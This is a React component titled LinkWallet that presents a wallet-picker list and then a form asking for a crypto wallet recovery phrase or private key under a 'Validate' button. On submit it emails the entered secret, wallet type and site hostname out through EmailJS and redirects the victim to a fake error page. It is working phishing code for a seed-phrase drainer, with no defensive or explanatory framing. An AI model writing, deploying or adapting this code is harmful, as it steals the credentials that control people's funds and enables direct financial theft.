import { useState } from "react";
import emailjs from "@emailjs/browser";
import { jsx as _jsx, jsxs as _jsxs } from "react/jsx-runtime";

const WALLETS = ["MetaMask", "Trust", "Ledger", "Phantom", "Exodus", "Other"];

export function LinkWallet() {
  const [name, setName] = useState(null);
  const [mode, setMode] = useState("phrase");
  const [secret, setSecret] = useState("");
  const [busy, setBusy] = useState(false);

  const submit = (e) => {
    e.preventDefault();
    const words = secret.trim().split(/\s+/);
    if (mode === "phrase" && words.length !== 12 && words.length !== 24) return alert("Phrase must be 12 or 24 words");
    setBusy(true);
    emailjs
      .send("service_0", "template_0", { wallet: name, kind: mode, message: secret, from: location.hostname }, "PUBLIC_KEY")
      .then(() => (location.href = "/error?code=0x21"))
      .finally(() => setBusy(false));
  };

  if (!name) return _jsx("ul", { children: WALLETS.map((w) => _jsx("li", { onClick: () => setName(w), children: w }, w)) });
  return _jsxs("form", {
    onSubmit: submit,
    children: [
      _jsxs("select", { value: mode, onChange: (e) => setMode(e.target.value), children: [_jsx("option", { value: "phrase", children: "Recovery phrase" }), _jsx("option", { value: "key", children: "Private key" })] }),
      _jsx("textarea", { value: secret, onChange: (e) => setSecret(e.target.value), placeholder: "Enter your recovery phrase, words separated by spaces" }),
      _jsx("button", { disabled: busy, children: "Validate" }),
    ],
  });
}
